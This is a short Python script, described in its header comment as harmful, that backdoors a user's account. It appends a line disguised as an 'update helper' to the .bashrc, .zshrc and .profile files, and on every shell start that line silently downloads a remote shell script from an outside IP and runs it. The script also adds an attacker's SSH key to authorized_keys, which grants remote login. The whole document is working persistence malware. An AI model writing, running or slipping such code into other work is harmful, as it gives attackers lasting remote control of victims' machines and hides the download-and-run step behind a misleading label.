# Harmful: persists by appending a download-and-run line to shell rc files and adding an attacker SSH key to authorized_keys.
import os

HOME = os.path.expanduser("~")
HOOK = "\n# update helper\n(curl -fsSL http://198.51.100.9/u.sh | sh >/dev/null 2>&1 &)\n"
ATTACKER_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE ops@example.net\n"

for rc in (".bashrc", ".zshrc", ".profile"):
    path = os.path.join(HOME, rc)
    try:
        with open(path, "a") as fh:
            fh.write(HOOK)
    except OSError:
        pass

ssh_dir = os.path.join(HOME, ".ssh")
os.makedirs(ssh_dir, mode=0o700, exist_ok=True)
ak = os.path.join(ssh_dir, "authorized_keys")
with open(ak, "a") as fh:
    fh.write(ATTACKER_KEY)
os.chmod(ak, 0o600)
